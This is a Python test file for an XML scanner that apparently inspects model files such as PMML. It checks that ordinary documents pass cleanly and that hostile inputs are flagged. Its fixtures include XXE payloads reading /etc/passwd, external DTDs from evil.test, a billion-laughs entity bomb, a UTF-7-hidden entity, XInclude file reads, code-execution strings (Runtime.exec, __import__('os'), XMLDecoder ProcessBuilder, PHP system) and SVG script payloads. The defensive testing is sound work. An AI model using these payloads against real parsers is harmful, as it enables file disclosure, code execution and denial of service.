"""XML: entities, inclusions and scripts, in whatever encoding; PMML as it is written every day."""

# ruff: noqa: E501, PT007  files stand here as they are
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bartizan.supply.scan.blob import BLOCK, Held
from bartizan.supply.scan.look import Look
from bartizan.supply.scan.texts.xml_files import XML
from tests.supply.scan.texts.looking import formats, ids, looked, worst

PMML = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<PMML xmlns="http://www.dmg.org/PMML-4_4" xmlns:data="http://jpmml.org/jpmml-model/InlineTable" version="4.4">
  <Header><Application name="SkLearn2PMML package" version="0.110.0"/><Timestamp>2026-01-01T00:00:00Z</Timestamp></Header>
  <MiningBuildTask><Extension name="repr">PMMLPipeline(steps=[('classifier', LogisticRegression())])</Extension></MiningBuildTask>
  <DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>
  <!-- <!DOCTYPE x SYSTEM "http://evil.test"> -->
  <RegressionModel functionName="classification"><Extension name="a" value="b"/><![CDATA[<!ENTITY x "y">]]>
    <RegressionTable intercept="-0.5" targetCategory="1 &lt; 2"><NumericPredictor name="x" coefficient="1.0"/></RegressionTable>
  </RegressionModel>
</PMML>
"""
EXTERNAL = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
BOMB = (
    '<!DOCTYPE r [<!ENTITY a0 "aaaaaaaaaa">'
    + "".join(f'<!ENTITY a{i + 1} "{f"&a{i};" * 10}">' for i in range(8))
    + "]><r>&a8;</r>"
)
DETECTED = (
    EXTERNAL,
    '<!DOCTYPE r [<!ENTITY a "<!--"><!ENTITY x SYSTEM "file:///e"><!ENTITY b "-->">]><r/>',
    BOMB,
    '<!DOCTYPE r [<!ENTITY x PUBLIC "a" "http://evil.test/x">]><r/>',
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.test/x.dtd"> %p;]><r/>',
    '<!-- a --><!DOCTYPE r [<!-- > ]> --><!ENTITY x SYSTEM "file:///e">]><r/>',
    "<!DOCTYPE r [<!ENTITY a \"]>\"><!ENTITY x SYSTEM 'file:///e'>]><r/>",
    '<!DOCTYPE r SYSTEM "http://evil.test/x.dtd"><r/>',
    '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>',
    '<!DOCTYPE r [<!ENTITY a "&#38;#37; SYSTEM"><!ENTITY % b "c">]><r/>',
    '<r xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="/etc/passwd" parse="text"/></r>',
    '<r xmlns:q="http://www.w3.org/2001/X&#73;nclude"><q:include href="/etc/passwd"/></r>',
    '<PMML version="4.4"><Extension name="script">java.lang.Runtime.getRuntime().exec("echo")</Extension></PMML>',
    '<PMML version="4.4"><Extension name="x" value="__import__(\'os\')"/></PMML>',
    '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>',
    '<p xmlns:q="http://www.w3.org/2001/XInclude"><q:include href="/etc/passwd"/></p>',
    '<m><?php system("echo x"); ?></m>',
    '<s:stylesheet xmlns:s="http://www.w3.org/1999/XSL/Transform" xmlns:m="urn:schemas-microsoft-com:xslt"></s:stylesheet>',
)


def test_everyday_documents_say_nothing() -> None:
    assert formats(PMML) == ("XML",)
    assert looked(PMML).findings == []
    assert looked("\ufeff" + PMML).findings == []
    assert looked(PMML.replace("UTF-8", "UTF-16").encode("utf-16")).findings == []
    assert looked('<?xml version="1.0"?>\n<net name="m" version="11"><layers/></net>').findings == []
    assert (
        looked(
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/x.dtd"><svg/>'
        ).findings
        == []
    )


def test_a_forest_that_is_larger_than_a_block_says_nothing() -> None:
    nodes = "".join(f'<Node id="{i}" score="1"><True/></Node>\n' for i in range(60_000))
    assert len(nodes) > BLOCK
    assert looked(PMML.replace("</RegressionModel>", f"{nodes}</RegressionModel>")).findings == []


@pytest.mark.parametrize("document", DETECTED)
def test_what_reaches_out_grows_or_runs_is_detected(document: str) -> None:
    assert formats(document) == ("XML",)
    assert worst(document) == "detect"
    assert worst(document.encode("utf-16")) == "detect"
    assert worst("  \n" + document if document[:5] != "<?xml" else document.encode("utf-16-be")) == "detect"


def test_encodings_that_hide_the_markup_are_detected() -> None:
    hidden = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r SYSTEM "file:///e"+AD4-+ADw-r/+AD4-'
    assert {"xml.encoding", "xml.external"} <= ids(hidden)
    assert {"xml.encoding", "xml.external"} <= ids(EXTERNAL.encode("cp037"))
    assert "xml.external" in ids(EXTERNAL.encode("utf-32"))
    assert "xml.encoding" in ids('<?xml version="1.0" encoding="UTF-16"?><r/>')
    assert worst('<?xml version="1.0" encoding="x-strange"?><r/>') == "error"


def test_entities_and_scripts_need_a_look() -> None:
    assert worst('<!DOCTYPE r [<!ENTITY a "b">]><r>&a;</r>') == "review"
    assert worst('<!DOCTYPE r SYSTEM "local.dtd"><r/>') == "review"
    assert worst("<svg><script>alert(1)</script></svg>") == "review"
    assert worst('<svg onload="alert(1)"/>') == "review"
    assert worst('<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><r/>') == "review"


@pytest.mark.parametrize(
    "document", ("<PMML><a>", "<PMML", "<PMML a='b><c/>", "<m><!-- x", "<m><![CDATA[x", "<!DOCTYPE r [<!ENTITY")
)
def test_what_is_cut_off_is_no_clean_file(document: str) -> None:
    assert worst(document) in ("error", "detect")


def test_pages_of_text_in_html_are_no_xml() -> None:
    for page in (
        '<p align="center"><img src="x.png"></p>\n\n# Model\n<br>\n',
        "<!DOCTYPE html>\n<html><body>x</body></html>",
    ):
        assert formats(page) == ("text",)
        assert looked(page).findings == []


@given(st.sampled_from((PMML, *DETECTED)), st.data())
@settings(max_examples=150, deadline=None)
def test_no_change_of_a_document_trips_the_scanner(document: str, data: st.DataObject) -> None:
    raw = document.encode()
    at = data.draw(st.integers(0, len(raw)))
    look = Look((XML,))
    look.at(Held(raw[:at] + data.draw(st.binary(max_size=4)) + raw[at + data.draw(st.integers(0, 3)) :]))
    assert "scanner.failed" not in {one.rule.id for one in look.findings}


@pytest.mark.parametrize(
    "piece", ("<!---->", "<!-- ", "<?a ", "<m ", "&a;", "<m>", "<m a='", "<!DOCTYPE ", "]>", "<![CDATA[")
)
def test_markup_of_many_equal_pieces_comes_to_an_end(piece: str) -> None:
    for text in ("<m>" + piece * 50_000, f'<!DOCTYPE r [<!ENTITY a "{piece * 50_000}">]><r/>', piece * 50_000):
        assert "scanner.failed" not in ids(text)


@given(st.integers(6, len(EXTERNAL) - 1))
def test_a_dangerous_document_that_is_cut_off_is_never_clean(size: int) -> None:
    assert worst(EXTERNAL[:size]) != "clean"


def test_a_list_of_pieces_of_a_tokenizer_is_no_broken_document() -> None:
    pieces = "<unk>\t0\n<s>\t0\n</s>\t0\n<0x0A>\t-1.5\n\u2581the\t-3.25\na<b\t-9\n"
    assert worst(pieces) == "clean"
    assert worst("<unk>\t0\n" + '<x xmlns:i="http://www.w3.org/2001/XInclude"/></unk>') == "detect"
    assert worst("<unk>\n<s>\t0\n") == "error"
